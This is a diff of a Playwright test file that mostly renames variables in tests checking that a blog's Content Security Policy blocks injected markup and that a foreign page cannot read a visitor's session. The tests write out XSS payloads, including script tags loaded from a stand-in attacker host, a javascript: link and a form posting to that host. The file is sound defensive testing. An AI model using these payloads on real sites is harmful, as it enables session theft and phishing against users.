@@ -6,23 +6,23 @@ import { expect, test } from '../fixtures/test.ts'
 import { evilHost } from '../fixtures/xss-corpus.ts'
 import { recordPayloadEffects, waitForScripts } from '../fixtures/xss-watch.ts'
 
-const post = '/blog/ten-quiet-minutes-before-the-phone'
+const postPath = '/blog/ten-quiet-minutes-before-the-phone'
 
 /** Injects markup as if it had passed the sanitizer. Changes the response body; the headers stay those of the site. */
-async function smuggle(page: Page, path: string, markup: string): Promise<void> {
+async function injectMarkup(page: Page, path: string, markup: string): Promise<void> {
   await page.route(path, async (route) => {
-    const answer = await route.fetch()
-    const html = await answer.text()
-    const changed = html.replace('<div class="prose">', (start) => start + markup)
-    expect(changed).not.toBe(html)
-    await route.fulfill({ response: answer, body: changed })
+    const response = await route.fetch()
+    const html = await response.text()
+    const changedHtml = html.replace('<div class="prose">', (match) => match + markup)
+    expect(changedHtml).not.toBe(html)
+    await route.fulfill({ response, body: changedHtml })
   })
 }
 
 test.describe('what beat the cleaner', () => {
   test.use({ expectsCspViolations: true })
 
-  const ways = [
+  const injections = [
     ['script-src-elem', '<script>hurt()</script>'],
     ['script-src-elem', `<script src="https://${evilHost}/a.js"></script>`],
     ['script-src-elem', '<script src="data:text/javascript,hurt()"></script>'],
@@ -38,14 +38,14 @@ test.describe('what beat the cleaner', () => {
     ['media-src', `<video src="https://${evilHost}/a"></video>`],
     ['img-src', `<img src="http://${evilHost}/a.png" alt="">`],
   ] as const
-  for (const [rule, markup] of ways)
+  for (const [directive, markup] of injections)
     test(`is stopped by the policy of the page: ${markup}`, async ({ context, page, cspViolations }) => {
-      const harm = await recordPayloadEffects(context)
-      await smuggle(page, post, markup)
-      await page.goto(post)
+      const effects = await recordPayloadEffects(context)
+      await injectMarkup(page, postPath, markup)
+      await page.goto(postPath)
       await waitForScripts(page)
-      await expect.poll(() => cspViolations.map((one) => one.directive)).toContain(rule)
-      expect(harm).toEqual([])
+      await expect.poll(() => cspViolations.map((violation) => violation.directive)).toContain(directive)
+      expect(effects).toEqual([])
     })
 
   test('a link that is a script, and a form that leads elsewhere, do nothing when they are used', async ({
@@ -53,28 +53,30 @@ test.describe('what beat the cleaner', () => {
     page,
     cspViolations,
   }) => {
-    const harm = await recordPayloadEffects(context)
+    const effects = await recordPayloadEffects(context)
     const form = `<form action="https://${evilHost}/"><button>Sign in here</button></form>`
-    await smuggle(page, post, `<a href="javascript:hurt()">A trap</a>${form}`)
-    await page.goto(post)
+    await injectMarkup(page, postPath, `<a href="javascript:hurt()">A trap</a>${form}`)
+    await page.goto(postPath)
     // Click within the page: Playwright would wait for the blocked navigations.
-    const press = (element: HTMLElement | SVGElement) => (element as HTMLElement).click()
-    await page.getByRole('link', { name: 'A trap', exact: true }).evaluate(press)
-    await page.getByRole('button', { name: 'Sign in here', exact: true }).evaluate(press)
+    const click = (element: HTMLElement | SVGElement) => (element as HTMLElement).click()
+    await page.getByRole('link', { name: 'A trap', exact: true }).evaluate(click)
+    await page.getByRole('button', { name: 'Sign in here', exact: true }).evaluate(click)
     await expect
-      .poll(() => cspViolations.map((one) => one.directive).sort())
+      .poll(() => cspViolations.map((violation) => violation.directive).sort())
       .toEqual(expect.arrayContaining(['form-action', 'script-src-elem']))
-    expect(harm).toEqual([])
-    expect(new URL(page.url()).pathname).toBe(post)
+    expect(effects).toEqual([])
+    expect(new URL(page.url()).pathname).toBe(postPath)
   })
 
   test('is reported by the browser, and the site takes the report', async ({ page }) => {
-    await smuggle(page, post, '<script>hurt()</script>')
-    const reported = page.context().waitForEvent('response', (answer) => answer.url().endsWith('/api/csp-reports'))
-    await page.goto(post)
-    const answer = await reported
-    expect(answer.status()).toBe(204)
-    const report = answer.request().postDataJSON()['csp-report']
+    await injectMarkup(page, postPath, '<script>hurt()</script>')
+    const responsePromise = page
+      .context()
+      .waitForEvent('response', (response) => response.url().endsWith('/api/csp-reports'))
+    await page.goto(postPath)
+    const response = await responsePromise
+    expect(response.status()).toBe(204)
+    const report = response.request().postDataJSON()['csp-report']
     expect(report).toMatchObject({ 'document-uri': page.url(), 'blocked-uri': 'inline' })
   })
 })
@@ -88,31 +90,32 @@ test('another site can neither read the session of a visitor nor ask in their na
   // Not the fixture's context, because the foreign page may log errors to its console.
   const context = await browser.newContext({ baseURL })
   const page = await context.newPage()
-  const stranger = createServer((_request, answer) => {
-    answer.setHeader('content-type', 'text/html')
-    answer.end('<!doctype html><title>Elsewhere</title><p>Elsewhere')
+  const foreignServer = createServer((_request, response) => {
+    response.setHeader('content-type', 'text/html')
+    response.end('<!doctype html><title>Elsewhere</title><p>Elsewhere')
   }).listen(0, '127.0.0.1')
-  await once(stranger, 'listening')
-  const elsewhere = `http://127.0.0.1:${(stranger.address() as AddressInfo).port}/`
+  await once(foreignServer, 'listening')
+  const foreignUrl = `http://127.0.0.1:${(foreignServer.address() as AddressInfo).port}/`
   await signIn({ page, ...(await account()) })
   const token = await page.evaluate(() => JSON.parse(localStorage.getItem('journey.session') ?? '{}').accessToken)
   expect(token).toMatch(/^\S{20,}$/)
 
-  const other = await context.newPage()
-  await other.goto(elsewhere)
-  const taken = await other.evaluate(async (site) => {
-    const said = (from: string) => (error: unknown) => `${from}: ${error instanceof Error ? error.name : 'no'}`
-    const read = (init: RequestInit) => fetch(`${site}/api/auth/me`, init).then((answer) => answer.text())
+  const foreignPage = await context.newPage()
+  await foreignPage.goto(foreignUrl)
+  const results = await foreignPage.evaluate(async (site) => {
+    const describeError = (label: string) => (error: unknown) =>
+      `${label}: ${error instanceof Error ? error.name : 'no'}`
+    const read = (init: RequestInit) => fetch(`${site}/api/auth/me`, init).then((response) => response.text())
     return {
-      asked: await read({ credentials: 'include' }).catch(said('asked')),
-      askedWithHeader: await read({ headers: { authorization: 'Bearer x' } }).catch(said('header')),
+      asked: await read({ credentials: 'include' }).catch(describeError('asked')),
+      askedWithHeader: await read({ headers: { authorization: 'Bearer x' } }).catch(describeError('header')),
       page: await fetch(`${site}/`, { credentials: 'include' })
-        .then((answer) => answer.text())
-        .catch(said('page')),
+        .then((response) => response.text())
+        .catch(describeError('page')),
       kept: JSON.stringify(localStorage) + document.cookie,
     }
   }, baseURL)
-  expect(taken).toEqual({
+  expect(results).toEqual({
     asked: 'asked: TypeError',
     askedWithHeader: 'header: TypeError',
     page: 'page: TypeError',
@@ -120,14 +123,14 @@ test('another site can neither read the session of a visitor nor ask in their na
   })
 
   // A tab opened by the foreign page has no opener, and the foreign page cannot read it.
-  const opening = context.waitForEvent('page')
-  await other.evaluate((site) => {
+  const pagePromise = context.waitForEvent('page')
+  await foreignPage.evaluate((site) => {
     Reflect.set(window, 'opened', window.open(`${site}/`))
   }, baseURL)
-  const opened = await opening
-  await expect(opened.getByRole('heading', { level: 1 })).toBeVisible()
-  expect(await opened.evaluate(() => window.opener)).toBeNull()
-  const seen = await other.evaluate(() => {
+  const openedPage = await pagePromise
+  await expect(openedPage.getByRole('heading', { level: 1 })).toBeVisible()
+  expect(await openedPage.evaluate(() => window.opener)).toBeNull()
+  const storedSession = await foreignPage.evaluate(() => {
     const tab: Window = Reflect.get(window, 'opened')
     if (tab.closed) return 'nothing'
     try {
@@ -136,8 +139,8 @@ test('another site can neither read the session of a visitor nor ask in their na
       return error instanceof Error ? error.name : 'no'
     }
   })
-  expect(['nothing', 'SecurityError']).toContain(seen)
+  expect(['nothing', 'SecurityError']).toContain(storedSession)
   await context.close()
-  stranger.close()
-  stranger.closeAllConnections()
+  foreignServer.close()
+  foreignServer.closeAllConnections()
 })
